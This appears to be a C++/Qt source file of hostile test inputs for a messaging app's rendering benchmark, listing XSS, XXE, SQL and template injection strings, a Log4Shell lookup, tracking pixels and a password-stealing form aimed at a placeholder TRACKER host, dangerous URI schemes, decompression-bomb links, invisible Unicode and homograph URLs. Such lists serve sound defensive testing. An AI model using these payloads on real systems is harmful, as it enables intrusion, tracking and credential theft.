#include "benchmarks/hostile/hostilewords.h"

namespace otklik::bench::hostile {

namespace {

QStringList words(std::initializer_list<const char *> all)
{
    QStringList list;
    for (const char *one : all)
        list.append(QString::fromUtf8(one));
    return list;
}

} // namespace

const QStringList &markup()
{
    static const QStringList all = words({
        "<script>alert(1)</script>hello",
        "<script src=\"http://TRACKER/x.js\"></script>hello",
        "<SCRIPT>alert('x')</SCRIPT >hello",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>text",
        "<body onload=alert(1)>text",
        "<a href=\"#\" onclick=\"alert(1)\">text</a>",
        "<details open ontoggle=alert(1)>text</details>",
        "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>",
        "<form action=\"http://TRACKER/steal\"><input name=password><button>ok</button></form>",
        "<marquee onstart=alert(1)>text</marquee>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->text",
        "<!-- <script>alert(1)</script> --!>text",
        "<template><script>alert(1)</script></template>text",
        "<style>*{background:url(http://TRACKER/style.png)}</style>text",
        "<title><script>alert(1)</script></title>text",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<![CDATA[<script>alert(1)</script>]]>text",
        "<?php system('id'); ?>text",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><p>&a;</p>",
        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><p>&b;</p>",
        "<b>bold</b> <i>italic</i> <font color=white>white on white</font>",
        "<span style=\"display:none\">hidden</span>visible",
        "<span style=\"font-size:0\">tiny</span>visible",
        "Robert'); DROP TABLE mention;--",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://TRACKER/a}",
        "%s%s%s%n%n%n %1 %2 %99",
    });
    return all;
}

const QStringList &pictures()
{
    static const QStringList all = words({
        "<img src=\"http://TRACKER/pixel.png\" width=1 height=1>text",
        "<img src=\"//TRACKER/pixel.png\">text",
        "<img srcset=\"http://TRACKER/1.png 1x, http://TRACKER/2.png 2x\">text",
        "<picture><source srcset=\"http://TRACKER/source.png\"><img src=\"http://TRACKER/img.png\"></picture>text",
        "<video src=\"http://TRACKER/a.mp4\" poster=\"http://TRACKER/poster.png\" autoplay></video>text",
        "<audio src=\"http://TRACKER/a.mp3\" autoplay></audio>text",
        "<iframe src=\"http://TRACKER/frame\"></iframe>text",
        "<iframe srcdoc=\"<img src=http://TRACKER/doc.png>\"></iframe>text",
        "<object data=\"http://TRACKER/object\"></object>text",
        "<embed src=\"http://TRACKER/embed\">text",
        "<link rel=stylesheet href=\"http://TRACKER/style.css\">text",
        "<link rel=prefetch href=\"http://TRACKER/prefetch\">text",
        "<link rel=dns-prefetch href=\"//TRACKER\">text",
        "<meta http-equiv=refresh content=\"0;url=http://TRACKER/refresh\">text",
        "<base href=\"http://TRACKER/\"><img src=\"a.png\">text",
        "<body background=\"http://TRACKER/background.png\">text",
        "<table background=\"http://TRACKER/table.png\"><tr><td>text</td></tr></table>",
        "<div style=\"background-image:url('http://TRACKER/div.png')\">text</div>",
        "<div style=\"content:url(http://TRACKER/content.png)\">text</div>",
        "<input type=image src=\"http://TRACKER/input.png\">text",
        "<svg><image href=\"http://TRACKER/svg.png\"/><use href=\"http://TRACKER/use.svg#a\"/></svg>text",
        "<svg><style>@import 'http://TRACKER/svg.css';</style></svg>text",
        "<img src=\"file:///etc/passwd\">text",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://TRACKER/d.png'/></svg>\">text",
        "<img src=\"\\\\TRACKER\\share\\a.png\">text",
        "<img src=\"qrc:/icons/otklik.svg\">text",
        "<p>text<img alt=\"https://TRACKER/alt\" src=\"http://TRACKER/alt.png\"></p>",
        "![a](http://TRACKER/markdown.png)",
        "[url=http://TRACKER/bb][img]http://TRACKER/bb.png[/img][/url]",
    });
    return all;
}

const QStringList &addresses()
{
    static const QStringList all = words({
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
        " javascript:alert(1)", "javascript://bank.example/%0aalert(1)", "vbscript:msgbox(1)", "file:///etc/passwd", "file://TRACKER/share/a",
        "FILE:///C:/Windows/System32/calc.exe", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://bank.example/1", "about:blank", "chrome://settings", "view-source:http://TRACKER/", "smb://TRACKER/share",
        "\\\\TRACKER\\share", "ftp://TRACKER/a", "ldap://TRACKER/a", "ssh://TRACKER", "telnet://TRACKER", "mailto:a@bank.example?bcc=b@TRACKER",
        "tel:+79990000000", "sms:+79990000000", "skype:evil?call", "ms-msdt:/id PCWDiagnostic", "search-ms:query=a&crumb=location:TRACKER",
        "intent://TRACKER#Intent;scheme=http;end", "steam://run/1", "otklik://open?case=1", "qrc:/i18n/otklik_ru.qm", "jar:http://TRACKER/a!/b",
        "feed:http://TRACKER/a", "x-apple-systempreferences:a", "tg://resolve?domain=evil", "magnet:?xt=urn:btih:a", "gopher://TRACKER/1",
    });
    return all;
}

const QStringList &entities()
{
    static const QStringList all = words({
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=http://TRACKER/e.png&#x3e;", "&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;", "&#0;&#1;&#31;null and friends",
        "&#x202e;gnp.exe", "&#8238;gnp.exe&rlm;&lrm;", "&zwj;&zwnj;&shy;&ZeroWidthSpace;nothing", "&#99999999999; &#x110000; &#-1; too much",
        "&unknown; &; &# &#x; unfinished", "&NewLine;&Tab;&nbsp;&emsp;blank", "&#xFEFF;&#xFFFE;&#xFFFF;no characters", "&lt;!-- hidden --&gt;",
        "&#104;&#116;&#116;&#112;&#58;&#47;&#47;TRACKER&#47;", "&bigstar;&Aopf;&#x1F4A3;",
    });
    return all;
}

const QStringList &bombs()
{
    static const QStringList all = words({
        "<a href=\"http://TRACKER/42.zip\">invoice.pdf</a>", "<a download href=\"http://TRACKER/42.zip\">photo.jpg</a>",
        "<a href=\"data:application/zip;base64,UEsDBBQ=\">archive</a>", "<img src=\"http://TRACKER/50000x50000.png\">look",
        "<img src=\"http://TRACKER/bomb.svgz\">look", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAw1AAAMNQCAYAAAA=\">look",
        "http://TRACKER/bomb.gif", "http://TRACKER/bomb.zip?name=report.docx", "<img src=\"http://TRACKER/progressive-with-9000-scans.jpg\">look",
        "<video poster=\"http://TRACKER/1x100000.png\"></video>look", "<a href=\"http://TRACKER/.jpg.exe\">photo.jpg</a>",
        "<object type=\"image/svg+xml\" data=\"http://TRACKER/billion-laughs.svg\"></object>look",
    });
    return all;
}

const QStringList &pieces()
{
    static const QStringList all{
        QStringLiteral("a"), QStringLiteral("W"), QStringLiteral("я"), QStringLiteral("ش"), QStringLiteral("漢"), QStringLiteral(" a"),
        QStringLiteral("word word "), QStringLiteral("\n"), QStringLiteral("<br>"), QStringLiteral("<p>a</p>"), QStringLiteral("-"),
        QString::fromUtf8("a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309"), QString::fromUtf8("\u0489\u20DD\u20E3"),
        QString::fromUtf8("👨‍👩‍👧‍👦"), QString::fromUtf8("🇷"), QString::fromUtf8("\uFDFA"), QString::fromUtf8("𒐫"), QString::fromUtf8("\u200b"),
        QString::fromUtf8("שלום hello "), QStringLiteral("http://"), QStringLiteral("&amp;"), QString::fromUtf8("ก็็็็็็็็"),
        QStringLiteral("((((("), QStringLiteral("\t"),
    };
    return all;
}

const QList<char16_t> &orderings()
{
    static const QList<char16_t> all{0x200e, 0x200f, 0x061c, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069};
    return all;
}

const QList<char32_t> &invisible()
{
    static const QList<char32_t> all{0x00ad,  0x034f,  0x115f,  0x1160,  0x17b4,  0x180e,  0x200b,  0x200c,  0x200d,  0x2060,  0x2061, 0x2064,
                                     0x206a,  0x206f,  0x2800,  0x3164,  0xfe00,  0xfe0f,  0xfeff,  0xffa0,  0xfff9,  0xfffb,  0x1d173, 0xe0001, 0xe0041,
                                     0xe007f, 0xe0100};
    return all;
}

const QList<QList<char16_t>> &halves()
{
    static const QList<QList<char16_t>> all{{0xd800}, {0xdbff}, {0xdc00}, {0xdfff}, {0xdc00, 0xd800}, {0xd83d, 0xd83d}, {0xd83d, u'a'}, {0xfffe}, {0xffff}, {0xfdd0}};
    return all;
}

const QList<std::pair<QString, QString>> &homographs()
{
    const auto pair = [](const char *address, const char *host) { return std::pair(QString::fromUtf8(address), QString::fromUtf8(host)); };
    static const QList<std::pair<QString, QString>> all{
        pair("https://аррӏе.example/login", "xn--80ak6aa92e.example"),
        pair("https://аpple.example/", "xn--pple-43d.example"),
        pair("https://bank.example@evil.example/", "evil.example"),
        pair("https://bank.example:443@evil.example/", "evil.example"),
        pair("https://bank.example%2F@evil.example/", "evil.example"),
        pair("https://bank.example.evil.example/", "bank.example.evil.example"),
        pair("https://evil.example/https://bank.example/", "evil.example"),
        pair("https://evil.example/?https://bank.example", "evil.example"),
        pair("https://evil.example#https://bank.example", "evil.example"),
        pair("https://xn--80ak6aa92e.example/", "xn--80ak6aa92e.example"),
        pair("https://bänk.example/", "xn--bnk-qla.example"),
        pair("https://ｂａｎｋ.example/", "bank.example"),
        pair("https://bank。example/", "bank.example"),
        pair("https://BANK.EXAMPLE/", "bank.example"),
        pair("https://www.bank-example.evil.example/", "www.bank-example.evil.example"),
        pair("https://2130706433/", "127.0.0.1"),
        pair("https://0x7f.1/", "127.0.0.1"),
        pair("https://[::1]/", "::1"),
        pair("https://bank.example.:8443/", "bank.example."),
        pair("https://почта.рф/вход", "xn--80a1acny.xn--p1ai"),
        pair("https://gооgle.example/", "xn--ggle-55da.example"),
        pair("https://ba\u00adnk.example/", "bank.example"),
        pair("https://ba\u200bnk.example/", "bank.example"),
        pair("https://b\u0430nk.example/", "xn--bnk-6cd.example"),
    };
    return all;
}

} // namespace otklik::bench::hostile
